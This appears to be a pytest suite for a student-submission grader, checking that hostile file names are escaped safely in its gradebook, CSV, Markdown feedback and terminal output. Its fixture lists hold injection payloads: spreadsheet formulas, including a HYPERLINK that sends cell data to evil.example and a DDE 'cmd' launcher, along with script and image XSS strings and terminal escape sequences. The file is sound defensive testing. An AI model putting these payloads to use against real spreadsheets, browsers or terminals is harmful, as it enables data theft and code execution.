"""Names end to end: two submissions never share an identity, and any name a file system allows
survives the gradebook, the CSV, the feedback files, the Markdown and the terminal.

The names come from three sources: hypothesis (text and raw bytes, seeded), an enumeration of
names known to break things (formula starters, escape sequences, Markdown/HTML, long, non-UTF-8),
and an enumeration of every pair of submission kinds and class folders for identity clashes.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import os
import re
import shutil
import sqlite3
import string
import subprocess
import sys
import tempfile
import unicodedata
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import grader.checking.checks  # noqa: F401 - registers the checks, so REGISTRY is full
from grader.batch.class_report import analyse, write_reports
from grader.batch.classroom import Progress, shown
from grader.batch.gradebook import Gradebook, write_csv
from grader.batch.identity import (
    IdentityClash,
    csv_cell,
    csv_text,
    expand,
    feedback_stem,
    fs_text,
    submission_name,
    visible,
)
from grader.batch.report import (
    feedback_markdown,
    feedback_paths,
    md_code_block,
    md_inline,
    read_index,
    score_table,
    write_feedback,
)
from grader.batch.results import SubmissionResult
from grader.batch.shards import select_shard, shard_of
from grader.checking.judge import CheckResult
from grader.checking.trial import REGISTRY
from grader.cli import main
from tests.strategies import ANY_NAMES, BYTE_NAMES, generated, unicode_text

REPO = Path(__file__).resolve().parent.parent
EXAMPLES = REPO / "examples"
TOTAL = sum(c.points for c in REGISTRY.values())
FORMULA_STARTS = "=+-@\t\r"
SETTINGS = generated(200)

# Names known to break something, as file names (bytes: any but "/" and NUL, at most 255).
NASTY: list[bytes] = [s.encode() if isinstance(s, str) else s for s in [
    '=HYPERLINK("https:evil.example?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\tTAB", "\rCR", "\nLF", " =lead-space", "line\nbreak", "cr\rinside",
    "\x1b[2J\x1b[31mred\x1b[0m", "\x9b31mcsi", "\x07bell\x08back\x7fdel",
    "bidi\u202eevil\u202c", "zero\u200bwidth", "para\u2029sep",
    "-rf", "--help", "-", ".hidden", "..dots", "._appledouble-ish", "+plus", "@at", "=eq",
    "# heading", "[link](javascript:alert(1))", "![img](x.png)",
    "<script>alert(1)<\\script>", "<img src=x onerror=alert(1)>", "```fence", "~~~tilde",
    "| pipe |", "*star* _under_", "$x^2$", "&amp;", "a\\b", "`tick`", "www.evil.example",
    "名前", "e\u0301", "\u00e9", "CON", "nul", "index", "summary", "Alice", "alice",
    "bob-0123456789abcdef", "' quote", '"dq"', "semi;colon", "comma,name", "trailing ",
    " leading", "x" * 251, "y" * 255, "é" * 127,
    b"caf\xe9", b"\xff\xfe", b"ok\x80bad", b"\xed\xa0\x80surrogate", b"\xc3", b"caf\\xe9",
]]
assert all(b"/" not in raw and b"\0" not in raw and len(raw) <= 255 for raw in NASTY)


def _result(name: str, source: str = "", score: int = 7, **extra) -> SubmissionResult:
    checks = [CheckResult(c.name, c.title, c.points, c.points if i % 2 else 0, bool(i % 2),
                          feedback="" if i % 2 else f"wrong for {name}", tags=c.tags)
              for i, c in enumerate(REGISTRY.values())]
    return SubmissionResult(name, source or name, "hash-" + str(zlib.crc32(name.encode())), 7,
                            "test", score, TOTAL, checks, "none", 0.5, **extra)


def _has_control(text: str, allowed: str = "") -> bool:
    return any(unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs") and c not in allowed
               for c in text)


# --- identity -----------------------------------------------------------------------------


@SETTINGS
@given(BYTE_NAMES, st.sampled_from(["", ".zip", ".ipynb"]))
def test_identity_is_storable_text_and_utf8_names_are_kept(raw, suffix):
    path = Path(os.fsdecode(raw + suffix.encode()))
    name = submission_name(path)
    name.encode("utf-8")  # storable in SQLite, UTF-8 files and JSON
    try:
        expected = (raw + suffix.encode()).decode("utf-8")
    except UnicodeDecodeError:
        assert "\\x" in name  # each undecodable byte is written \xNN
    else:
        stem = Path(expected)
        assert name == (stem.stem if stem.suffix in (".zip", ".ipynb") else stem.name)
    assert submission_name(path) == name  # the same file always has the same identity


def test_identity_of_the_current_folder_is_its_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert submission_name(Path(".")) == tmp_path.name
    assert submission_name(Path("sub/..")) != ""


KINDS = ["folder", "zip", "ipynb", "link to folder"]


def _make(kind: str, folder: Path, name: str = "alice") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    if kind == "folder":
        path = folder / name
        path.mkdir()
        (path / "activations.py").write_text("X = 1\n")
    elif kind == "zip":
        path = folder / f"{name}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("activations.py", "X = 1\n")
    elif kind == "ipynb":
        path = folder / f"{name}.ipynb"
        path.write_text(json.dumps({"cells": [], "nbformat": 4, "nbformat_minor": 5,
                                    "metadata": {}}))
    else:
        target = folder.parent / f"elsewhere-{folder.name}"
        target.mkdir()
        (target / "activations.py").write_text("X = 1\n")
        path = folder / name
        path.symlink_to(target)
    return path


def _clash_cases():
    """Every pair of kinds, laid out in one class folder, in two class folders, given as two
    paths, or as a class folder plus a path from elsewhere."""
    for first, second in itertools.product(KINDS, repeat=2):
        one_file_name = first == second or {first, second} <= {"folder", "link to folder"}
        if not one_file_name:  # one folder cannot hold two entries of one file name
            yield first, second, "one class folder"
        yield first, second, "two class folders"
        yield first, second, "two paths"
        yield first, second, "class folder and a path"


@pytest.mark.parametrize(("first", "second", "layout"), list(_clash_cases()))
def test_one_identity_twice_is_refused_naming_both(tmp_path, capsys, first, second, layout):
    if layout == "one class folder":
        a, b = _make(first, tmp_path / "class"), _make(second, tmp_path / "class")
        args = [tmp_path / "class"]
    elif layout == "two class folders":
        a, b = _make(first, tmp_path / "sec1"), _make(second, tmp_path / "sec2")
        args = [tmp_path / "sec1", tmp_path / "sec2"]
    elif layout == "two paths":
        a, b = _make(first, tmp_path / "x"), _make(second, tmp_path / "y")
        args = [a, b]
    else:
        a, b = _make(first, tmp_path / "class"), _make(second, tmp_path / "other")
        args = [tmp_path / "class", b]
    with pytest.raises(IdentityClash) as clash:
        expand(args)
    assert list(clash.value.groups) == ["alice"]
    assert sorted(clash.value.groups["alice"]) == sorted([a, b])
    book = tmp_path / "book.sqlite"
    assert main(["grade", *map(str, args), "--gradebook", str(book), "--csv",
                 str(tmp_path / "g.csv")]) == 2
    err = capsys.readouterr().err
    assert str(a) in err and str(b) in err and "nothing was graded" in err
    assert "grading" not in err.splitlines()[0]
    assert not book.exists() and not (tmp_path / "g.csv").exists()
    for index in (1, 2):  # every shard of the batch refuses alike, so none grades either one
        assert main(["grade", *map(str, args), "--shard", f"{index}/2"]) == 2


def test_all_three_kinds_in_one_folder_are_one_group(tmp_path):
    paths = [_make(kind, tmp_path / "class") for kind in ("folder", "zip", "ipynb")]
    _make("folder", tmp_path / "class", "bob")
    with pytest.raises(IdentityClash) as clash:
        expand([tmp_path / "class"])
    assert clash.value.groups == {"alice": sorted(paths)}


@pytest.mark.parametrize(("first", "second"), [
    ("e\u0301", "\u00e9"),  # the same letter, decomposed and composed
    (b"caf\xe9", b"caf\\xe9"),  # a non-UTF-8 byte and the text of its escape
])
def test_names_that_read_the_same_are_one_identity(tmp_path, first, second):
    def folder(name):
        return Path(os.fsdecode(os.fsencode(tmp_path / "class") + b"/" + (
            name if isinstance(name, bytes) else name.encode())))

    for name in (first, second):
        folder(name).mkdir(parents=True)
    with pytest.raises(IdentityClash):
        expand([tmp_path / "class"])


def test_clash_message_shows_control_characters(tmp_path, capsys):
    name = "\x1b[2J\x1b]0;owned\x07alice\n"
    a, b = _make("folder", tmp_path / "class", name), _make("zip", tmp_path / "class", name)
    assert main(["grade", str(tmp_path / "class")]) == 2
    err = capsys.readouterr().err
    assert not _has_control(err, allowed="\n") and err.count("\n") == 2
    assert f"  {visible(name)}: {visible(str(a))}, {visible(str(b))}\n" in err


def test_an_unreadable_class_folder_is_refused(tmp_path, capsys, monkeypatch):
    classroom = tmp_path / "class"
    _make("folder", classroom)

    def unreadable(self):
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "iterdir", unreadable)  # chmod does not stop root
    assert main(["grade", str(classroom)]) == 2
    assert capsys.readouterr().err == (
        f"cannot list the class folder {classroom}: Permission denied\n")


def test_distinct_names_and_repeated_paths_are_not_clashes(tmp_path):
    made = [_make("folder", tmp_path / "class", n) for n in ("alice", "Alice", "alice2")]
    made.append(_make("zip", tmp_path / "class", "alice.zip"))  # identity "alice.zip"
    assert sorted(map(submission_name, made)) == ["Alice", "alice", "alice.zip", "alice2"]
    found = expand([tmp_path / "class", tmp_path / "class", made[0]])
    assert sorted(found) == sorted(made)


def test_class_folder_keeps_odd_names_and_special_files_but_not_junk(tmp_path):
    classroom = tmp_path / "class"
    kept = [_make("folder", classroom, n) for n in (".dot", "_under", "-dash", "=eq")]
    kept.append(_make("zip", classroom, ".hidden"))
    fifo = classroom / "fifo.ipynb"
    os.mkfifo(fifo)
    dangling = classroom / "gone.zip"
    dangling.symlink_to(tmp_path / "nowhere.zip")
    kept += [fifo, dangling]
    for junk in ("__MACOSX", ".git", ".ipynb_checkpoints", "__pycache__"):
        (classroom / junk).mkdir()
    (classroom / "._alice.zip").write_bytes(b"\0\5\26\7")
    (classroom / "notes.txt").write_text("x")
    assert sorted(expand([classroom])) == sorted(kept)


# --- shards -------------------------------------------------------------------------------


def test_shard_of_a_name_is_pinned():
    # A shard must never move between versions: runs on other machines rely on it.
    assert [shard_of("alice", 3), shard_of("bob", 3), shard_of("s0", 8)] == [
        zlib.crc32(b"alice") % 3 + 1, zlib.crc32(b"bob") % 3 + 1, zlib.crc32(b"s0") % 8 + 1]
    assert shard_of("alice", 3) == 3


@SETTINGS
@given(st.lists(ANY_NAMES, min_size=1, max_size=12, unique=True), st.integers(1, 6))
def test_every_submission_is_in_exactly_one_shard(names, count):
    paths = [Path(n + ".zip") for n in names]
    shards = [select_shard(paths, f"{i}/{count}") for i in range(1, count + 1)]
    assert sorted(p for shard in shards for p in shard) == sorted(paths)
    assert all(shard_of(submission_name(p), count) == i + 1
               for i, shard in enumerate(shards) for p in shard)


# --- gradebook, CSV ------------------------------------------------------------------------


def _round_trip(names: list[str], folder: Path) -> None:
    sources = [str(Path("class") / n) for n in names]
    results = [_result(submission_name(Path(s)), s, score=i - 1)
               for i, s in enumerate(sources)]
    with Gradebook(folder / "book.sqlite") as book:
        for result in results:
            book.record(result)
        for result, source in zip(results, sources, strict=True):
            assert book.is_current(result.name, result.content_hash, 7, "test")
            assert book.original_path(result.name) == os.fsencode(source)
            assert os.fsdecode(book.original_path(result.name)) == source
        assert sorted(n for n, _, _ in book.scores()) == sorted(r.name for r in results)
        book.export_csv(folder / "grades.csv")
    with Gradebook(folder / "merged.sqlite") as merged:
        assert merged.merge_from(folder / "book.sqlite") == (len(results), 0)
        assert merged.merge_from(folder / "book.sqlite") == (0, len(results))
        assert [merged.original_path(r.name) for r in results] == [
            os.fsencode(s) for s in sources]
        merged.export_csv(folder / "merged.csv")
    for table in ("grades.csv", "merged.csv"):
        with open(folder / table, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert rows[0][:3] == ["submission", "score", "max_score"]
        by_cell = {row[0]: row for row in rows[1:]}
        assert sorted(by_cell) == sorted(csv_cell(r.name) for r in results)
        for result in results:
            row = by_cell[csv_cell(result.name)]
            assert csv_text(row[0]) == visible(result.name)
            assert not _has_control(row[0])
            assert row[1] == str(result.score)  # a number, also when negative
            assert row[2] == str(TOTAL)
            assert not row[0].lstrip(" ").startswith(tuple(FORMULA_STARTS))


@pytest.mark.slow
@generated(60)  # two SQLite files per example
@given(st.lists(ANY_NAMES, min_size=1, max_size=5, unique_by=lambda n: unicodedata.normalize(
    "NFC", submission_name(Path(n)))))
def test_gradebook_record_export_merge_round_trip_generated(names):
    with tempfile.TemporaryDirectory() as folder:
        _round_trip(names, Path(folder))


def test_gradebook_stores_text_sqlite_would_refuse(tmp_path):
    result = _result("alice", error="read \udcff and \ud800")
    result.checks[0].feedback = "printed \udce9t\udce9"
    result.checks[0].diagnosis = "\udcff"
    with Gradebook(tmp_path / "book.sqlite") as book:
        book.record(result)
        rows = book.check_rows()
        error = book.db.execute("SELECT error FROM submissions").fetchone()[0]
    assert error == "read \\xff and \\ud800"
    assert rows[0][5:7] == ("printed \\xe9t\\xe9", "\\xff")


def test_gradebook_record_export_merge_round_trip_nasty(tmp_path, capsys):
    names = {submission_name(Path(os.fsdecode(raw))): os.fsdecode(raw) for raw in NASTY}
    _round_trip(list(names.values()), tmp_path)
    # `python -m grader export` and `merge` write the same escaped CSV
    assert main(["export", str(tmp_path / "book.sqlite"), "--csv", str(tmp_path / "e.csv")]) == 0
    assert main(["merge", str(tmp_path / "m2.sqlite"), str(tmp_path / "book.sqlite")]) == 0
    assert main(["export", str(tmp_path / "m2.sqlite"), "--csv", str(tmp_path / "m.csv")]) == 0
    expected = (tmp_path / "grades.csv").read_bytes()
    assert (tmp_path / "e.csv").read_bytes() == expected == (tmp_path / "m.csv").read_bytes()
    assert not _has_control(capsys.readouterr().out, allowed="\n")


@pytest.mark.parametrize("start", list(FORMULA_STARTS) + ["\n", " =", "  +"])
@pytest.mark.parametrize("rest", ['HYPERLINK("http://x","y")', "1+1", "cmd|' /C calc'!A0", ""])
def test_formula_cells_get_a_quote(start, rest):
    # A tab, CR or LF is written as its escape ("\\t"), after the quote.
    assert csv_cell(start + rest) == "'" + visible(start) + rest
    assert csv_text(csv_cell(start + rest)) == visible(start + rest)


@SETTINGS
@given(st.text())
def test_csv_cells_are_safe_and_reversible(text):
    cell = csv_cell(text)
    assert not cell.lstrip(" ").startswith(tuple(FORMULA_STARTS + "\n"))
    assert not _has_control(cell)
    shown_text = visible(text)
    assert csv_text(cell) == shown_text
    assert cell == shown_text or cell == "'" + shown_text


@pytest.mark.parametrize("text", ["\x1b[31mred", "a\x9bb", "bidi\u202e", "\x1b=x"])
def test_csv_cells_show_escape_sequences(text):
    assert csv_cell(text) == visible(text) and "\x1b" not in csv_cell(text)
    assert csv_cell("=" + text) == "'=" + visible(text)


def test_numbers_stay_numbers_in_every_csv(tmp_path):
    path = write_csv(tmp_path / "x.csv", [["=x", -3, 2.5, "-3", None, 0]])
    assert path.read_text() == "'=x,-3,2.5,'-3,,0\n"


# --- feedback files, Markdown --------------------------------------------------------------


@SETTINGS
@given(st.lists(ANY_NAMES.map(lambda n: submission_name(Path(n))), min_size=1, max_size=20,
                unique=True))
def test_feedback_file_names_are_safe_unique_and_stable(names):
    stems = [feedback_stem(n) for n in names]
    assert len({s.casefold() for s in stems}) == len(names)  # also on case-insensitive disks
    for name, stem in zip(names, stems, strict=True):
        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", stem)
        assert len(stem) <= 100 and len(f"{stem}_gradient_flow.png") <= 120
        assert stem.split(".")[0].lower() not in ("con", "nul", "index", "summary")
        assert feedback_stem(name) == stem


def test_plain_names_keep_their_feedback_file_names():
    for name in ("alice", "buggy", "half_done", "s01", "student.2"):
        assert feedback_stem(name) == name
    forged = feedback_stem("Alice")  # another student may not pick a name that overwrites it
    assert forged != "Alice" and feedback_stem(forged.lower()) != forged.lower()


def _markdown():
    import mistune

    return mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url",
                                                          "math"])


def _text_of(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


# Text made of Markdown's own pieces finds far more than uniform Unicode does.
MARKDOWNISH = st.lists(st.sampled_from(
    [*"#*_-+=>.:/@!~$[](){}<>&|`\\ 0123456789aw", "www.", "http://", "1.", "==", "++", "\n",
     "\t", "    ", "<b>", "](", "![", "```", "&amp;", "$$"]), max_size=14).map("".join)


@generated(500)
@given(st.one_of(unicode_text(), MARKDOWNISH))
def test_md_inline_is_literal_text_where_a_block_starts(text):
    pytest.importorskip("mistune")
    markdown, shown_text = _markdown(), visible(text)
    for template, tags, expected in (
            ("- {}", {"ul", "li"}, shown_text),
            ("| h |\n|---|\n| {} |", {"table", "thead", "tbody", "tr", "th", "td"},
             "h " + shown_text),
            ("# Feedback for {}: 1 / 2", {"h1"}, f"Feedback for {shown_text}: 1 / 2"),
            ("x {}", {"p"}, "x " + shown_text)):
        rendered = markdown(template.format(md_inline(text)))
        assert set(re.findall(r"<(\w+)", rendered)) <= tags, rendered
        assert " ".join(_text_of(rendered).split()) == " ".join(expected.split()), rendered


@SETTINGS
@given(st.one_of(unicode_text(), MARKDOWNISH))
def test_md_code_block_cannot_be_left(text):
    pytest.importorskip("mistune")
    rendered = _markdown()("\n".join(["before", "", *md_code_block(text), "", "after"]))
    assert rendered.count("<pre>") == 1 and rendered.startswith("<p>before</p>")
    assert rendered.endswith("<p>after</p>\n")
    code = re.search(r"<pre><code>(.*)</code></pre>", rendered, re.S).group(1)
    assert html.unescape(code).rstrip("\n") == visible(text, keep="\n\t").rstrip("\n")


HOSTILE_TEXT = ["# not a heading", "[click](http://evil.example)", "![x](http://evil.example/a)",
                "<script>alert(1)</script>", "```\n# out of the fence\n```", "a | b",
                "\x1b[31mred", "line1\nline2\r\n- item", "    indented code", "<!-- c -->"]


def test_feedback_markdown_quotes_student_text_literally():
    pytest.importorskip("mistune")
    hostile = " ".join(HOSTILE_TEXT)
    result = _result("<b>[x](y)</b>\n# name", error="could not read " + hostile,
                     notes=list(HOSTILE_TEXT))
    result.checks[0].notes = list(HOSTILE_TEXT)
    result.checks[0].diagnosis = "prints " + hostile
    result.checks[2].feedback = hostile + "\n````\n" + hostile
    failing = sum(1 for c in result.checks if not c.passed or c.notes)
    rendered = _markdown()(feedback_markdown(result, Path("safe_gradient_flow.png")))
    tags = set(re.findall(r"<(\w+)", rendered))
    assert tags <= {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
                    "code", "pre", "strong", "img"}, tags
    assert rendered.count("<h1>") == 1 and rendered.count("<h2>") == failing + 1
    assert re.findall(r"<img [^>]*>", rendered) == [
        '<img src="safe_gradient_flow.png" alt="gradient size per layer" />']
    assert "<b>[x](y)</b>\\n# name" in _text_of(re.search(r"<h1>.*</h1>", rendered).group())
    assert "prints # not a heading [click](http://evil.example)" in _text_of(rendered)


def test_class_summary_quotes_failure_reasons(tmp_path):
    pytest.importorskip("mistune")
    checks = [CheckResult(check, check, 2, 0, False, feedback=text)
              for check, text in zip(REGISTRY, HOSTILE_TEXT * 3, strict=False)]
    with Gradebook(tmp_path / "book.db") as book:
        book.record(SubmissionResult(HOSTILE_TEXT[0], "s", "h", 7, "test", 0, TOTAL, checks,
                                     "none", 0.5))
        path = write_reports(analyse(book), tmp_path)["markdown"]
    rendered = _markdown()(path.read_text(encoding="utf-8"))
    assert set(re.findall(r"<(\w+)", rendered)) <= {"h1", "h2", "p", "img", "table", "thead",
                                                     "tbody", "tr", "th", "td", "code", "ul",
                                                     "li", "strong", "br"}
    # One header row per table, one row per check and per student: no row split by a "|".
    assert rendered.count("<tr>") == len(checks) + 1 + 1 + 1
    assert len(re.findall(r"<img ", rendered)) == 1


FLOW = {"sigmoid": [10.0 ** -k for k in range(21, 0, -1)], "relu": [1.0] * 21}


@pytest.mark.parametrize("raw", NASTY, ids=lambda raw: repr(raw)[:40])
def test_feedback_files_for_nasty_names(tmp_path, raw):
    name = submission_name(Path(os.fsdecode(raw)))
    flow = FLOW if len(raw) >= 251 or raw.startswith(b"$") or raw[:1] in b"=\x1b" else {}
    path = write_feedback(_result(name, gradient_flow=flow), tmp_path, {})
    md, plot = feedback_paths(tmp_path, name)
    assert path == md and md.is_file() and plot.is_file() == bool(flow)
    text = md.read_text(encoding="utf-8")
    assert text.startswith(f"# Feedback for {md_inline(name)}: 7 / {TOTAL} points\n")
    assert not _has_control(text, allowed="\n\t")  # a tab only inside a code block
    assert [r[0] for r in read_index(tmp_path)] == [csv_cell(name)]
    assert read_index(tmp_path)[0][1:] == [md.name, plot.name if flow else ""]


def test_index_lists_every_submission_once(tmp_path):
    names = sorted({submission_name(Path(os.fsdecode(raw))) for raw in NASTY})
    for name in names + names[:5]:  # graded again: its line is replaced, not doubled
        write_feedback(_result(name), tmp_path, {})
    index = read_index(tmp_path)
    assert sorted(row[0] for row in index) == sorted(csv_cell(n) for n in names)
    assert sorted(row[1] for row in index) == sorted(p.name for p in tmp_path.glob("*.md"))
    assert len(list(tmp_path.glob("*.md"))) == len(names)


# --- terminal ------------------------------------------------------------------------------


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@SETTINGS
@given(st.lists(ANY_NAMES.map(lambda n: submission_name(Path(n))), min_size=1, max_size=5))
def test_terminal_output_shows_control_characters(names):
    for stream in (io.StringIO(), _Terminal()):
        progress = Progress(len(names), stream)
        for name in names:
            progress.update(_result(name), name)
        out = stream.getvalue()
        assert not _has_control(out, allowed="\n\r")
        if isinstance(stream, _Terminal):
            assert out.count("\r") == len(names) and out.endswith("\n")
        else:
            assert out.count("\n") == len(names)
            assert all(visible(n) in out for n in names)
    table = score_table([_result(n) for n in names])
    assert not _has_control(table, allowed="\n") and table.count("\n") == len(names)


def test_shown_escapes_what_the_terminal_cannot_encode():
    class Latin1:
        encoding = "latin-1"

    assert shown("名\x1b[2J é", Latin1()) == "\\u540d\\x1b[2J é"


# --- end to end ----------------------------------------------------------------------------

E2E = {  # file name -> kind; each is a copy of examples/correct
    '=HYPERLINK("evil.example?"&A1,"x")': "folder",
    "\x1b[2J\x1b[31mred\nline": "zip",
    "n" * 251: "zip",
    "caf\udce9 -\udcff": "folder",
    ".dot [x](y) <b>": "folder",
}


def _copy_correct(folder: Path, name: str, kind: str) -> None:
    if kind == "folder":
        shutil.copytree(EXAMPLES / "correct", folder / name)
        return
    with zipfile.ZipFile(folder / f"{name}.zip", "w") as archive:
        for path in (EXAMPLES / "correct").glob("*.py"):
            archive.write(path, f"exercises/{path.name}")


@pytest.mark.slow
def test_nasty_names_end_to_end(tmp_path):
    classroom = tmp_path / "class"
    classroom.mkdir()
    for name, kind in E2E.items():
        _copy_correct(classroom, name, kind)
    out = tmp_path / "out"
    args = [sys.executable, "-m", "grader", "grade", str(classroom), "--gradebook",
            str(out / "book.sqlite"), "--csv", str(out / "grades.csv"), "--feedback",
            str(out / "feedback"), "--summary", str(out / "summary"), "--workers", "2"]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done = subprocess.run(args, cwd=REPO, capture_output=True, env=env, timeout=600)
    stdout, stderr = done.stdout.decode(), done.stderr.decode()
    assert done.returncode == 0, stderr
    names = {fs_text(n) for n in E2E}
    assert names == {'=HYPERLINK("evil.example?"&A1,"x")', "\x1b[2J\x1b[31mred\nline",
                     "n" * 251, "caf\\xe9 -\\xff", ".dot [x](y) <b>"}
    with sqlite3.connect(out / "book.sqlite") as db:
        scores = dict(db.execute("SELECT name, score FROM submissions"))
        sources = dict(db.execute("SELECT submission, path FROM sources"))
    assert scores == {name: TOTAL for name in names}
    assert sources["caf\\xe9 -\\xff"] == os.fsencode(classroom / "caf\udce9 -\udcff")
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = {row[0]: row for row in list(csv.reader(handle))[1:]}
    assert set(rows) == {csv_cell(n) for n in names}
    assert "'=HYPERLINK(\"evil.example?\"&A1,\"x\")" in rows
    assert "\\x1b[2J\\x1b[31mred\\nline" in rows and "\x1b" not in (out / "grades.csv").read_text()
    assert all(row[1] == str(TOTAL) for row in rows.values())
    index = {row[0]: row[1] for row in read_index(out / "feedback")}
    assert set(index) == set(rows)
    for name in names:
        file = index[csv_cell(name)]
        text = (out / "feedback" / file).read_text(encoding="utf-8")
        assert text.startswith(f"# Feedback for {md_inline(name)}: {TOTAL} / {TOTAL}")
        assert (out / "feedback" / file.replace(".md", "_gradient_flow.png")).is_file()
    assert (out / "summary" / "summary.md").is_file()
    for stream in (stdout, stderr):
        assert not _has_control(stream, allowed="\n")
    assert "\\x1b[2J\\x1b[31mred\\nline" in stderr  # the progress line shows it, harmless
    again = subprocess.run(args, cwd=REPO, capture_output=True, env=env, timeout=600)
    assert f"{len(E2E)} unchanged submission(s) skipped" in again.stdout.decode()


def test_cli_refuses_a_clash_with_status_2(tmp_path):
    classroom = tmp_path / "class"
    _copy_correct(classroom.parent, "class/alice", "folder")
    _copy_correct(classroom, "alice", "zip")
    done = subprocess.run([sys.executable, "-m", "grader", "grade", str(classroom),
                           "--gradebook", str(tmp_path / "b.sqlite")], cwd=REPO,
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 2
    assert f"alice: {classroom / 'alice'}, {classroom / 'alice.zip'}" in done.stderr
    assert not (tmp_path / "b.sqlite").exists() and "Traceback" not in done.stderr


@pytest.mark.parametrize("text", [
    string.punctuation, "1. one", "12) twelve", "- item", "+ item", "* item", "> quote", "# h",
    "=== setext", "--- rule", "    code", "\tcode", "https://evil.example", "www.evil.example",
    "a@b.example", "==mark== ++ins++ ~~del~~", "$x$ $$y$$", "<!-- c -->", "[^1]", "{: .cls}",
    "&lt; &#60; &amp;", "a\\*b\\*", "``", "***", "___", "| a | b |", "x\ny\r\nz",
])
def test_md_inline_enumerated_syntax_stays_text(text):
    pytest.importorskip("mistune")
    for template in ("- {}", "x {}", "| h |\n|---|\n| {} |"):
        rendered = _markdown()(template.format(md_inline(text)))
        assert not set(re.findall(r"<(\w+)", rendered)) - {"ul", "li", "p", "table", "thead",
                                                            "tbody", "tr", "th", "td"}, rendered
        assert visible(text).strip() in " ".join(_text_of(rendered).split()), rendered
